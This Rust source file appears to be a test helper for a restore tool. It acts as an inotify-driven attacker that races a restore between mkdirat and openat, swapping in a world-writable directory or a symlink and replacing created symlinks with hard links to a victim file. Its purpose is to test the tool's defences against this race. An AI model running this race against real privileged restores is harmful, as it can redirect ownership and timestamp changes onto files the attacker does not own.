//! `swap-fresh DIR VICTIM`: the attacker of the "directory the restore just made" tests. Run
//! as an ordinary user who may write in DIR, it waits (inotify) for a directory to appear in
//! DIR (under its real name or a restore's temporary one), renames it aside the moment it
//! does and puts a directory of its own, writable by all, in its place — between the
//! restore's `mkdirat` and its `openat`. Should the restore take
//! that directory for the empty one it made, the attacker then replaces every symlink the
//! restore makes in it with a hard link to VICTIM (a file outside the destination that the
//! attacker may link but does not own), to catch the owner and times the restore then sets by
//! name. It loops until killed, and prints what it did on each success (`swapped NAME`,
//! `replaced NAME`).
//!
//! `swap-fresh --symlink DIR TARGET`: the same moment, but a symlink to TARGET is put in the
//! place of the directory just made (`linked NAME`): for the destination a restore makes.

use std::collections::{HashMap, HashSet};
use std::ffi::CString;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let (symlink, dir, victim) = match &args[..] {
        [dir, victim] => (false, dir, victim),
        [flag, dir, target] if flag == "--symlink" => (true, dir, target),
        _ => {
            eprintln!("usage: swap-fresh [--symlink] DIR VICTIM|TARGET");
            std::process::exit(2);
        }
    };
    let (dir, victim) = (PathBuf::from(dir), PathBuf::from(victim));
    // SAFETY: plain system calls on values owned here.
    let fd = unsafe { libc::inotify_init1(libc::IN_CLOEXEC) };
    if fd < 0 {
        eprintln!("inotify: {}", std::io::Error::last_os_error());
        std::process::exit(1);
    }
    let mut watched: HashMap<i32, (PathBuf, bool)> = HashMap::new();
    let top = watch(fd, &dir).expect("watch DIR");
    watched.insert(top, (dir.clone(), true));
    // The directories it made itself, whose creation it sees too.
    let mut mine = HashSet::new();
    let mut n = 0u64;
    let mut buf = vec![0u8; 1 << 16];
    loop {
        // SAFETY: the buffer is valid for its length.
        let len = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
        if len <= 0 {
            continue;
        }
        let mut at = 0usize;
        while at + 16 <= len as usize {
            let wd = i32::from_ne_bytes(buf[at..at + 4].try_into().unwrap());
            let mask = u32::from_ne_bytes(buf[at + 4..at + 8].try_into().unwrap());
            let nlen = u32::from_ne_bytes(buf[at + 12..at + 16].try_into().unwrap()) as usize;
            let raw = &buf[at + 16..at + 16 + nlen];
            let name = &raw[..raw.iter().position(|&b| b == 0).unwrap_or(raw.len())];
            at += 16 + nlen;
            let Some((d, is_top)) = watched.get(&wd).cloned() else {
                continue;
            };
            let name = std::ffi::OsStr::from_bytes(name);
            // Its own names; a restore's temporary ones (`.ore-partial-...`, under which it
            // makes a directory first) are attacked like real ones.
            if name.as_bytes().starts_with(b".aside-") || name.as_bytes() == b".h" {
                continue;
            }
            let p = d.join(name);
            n += 1;
            if is_top && mask & libc::IN_ISDIR != 0 {
                if mine.remove(&p) {
                    continue;
                }
                if symlink {
                    if std::fs::rename(&p, d.join(format!(".aside-{n}"))).is_ok()
                        && std::os::unix::fs::symlink(&victim, &p).is_ok()
                    {
                        say(&format!("linked {}", p.display()));
                    }
                    continue;
                }
                if std::fs::rename(&p, d.join(format!(".aside-{n}"))).is_ok()
                    && std::fs::create_dir(&p).is_ok()
                {
                    mine.insert(p.clone());
                    let _ = std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o777));
                    let _ = std::fs::hard_link(&victim, p.join(".h"));
                    if let Some(w) = watch(fd, &p) {
                        watched.insert(w, (p.clone(), false));
                    }
                    say(&format!("swapped {}", p.display()));
                }
            } else if !is_top
                && std::fs::symlink_metadata(&p).is_ok_and(|m| m.file_type().is_symlink())
                && std::fs::rename(d.join(".h"), &p).is_ok()
            {
                say(&format!("replaced {}", p.display()));
                let _ = std::fs::hard_link(&victim, d.join(".h"));
            }
        }
    }
}

fn say(s: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{s}");
    let _ = out.flush();
}

fn watch(fd: i32, dir: &Path) -> Option<i32> {
    let c = CString::new(dir.as_os_str().as_bytes()).ok()?;
    // SAFETY: a valid descriptor and C string.
    let w = unsafe { libc::inotify_add_watch(fd, c.as_ptr(), libc::IN_CREATE) };
    (w >= 0).then_some(w)
}
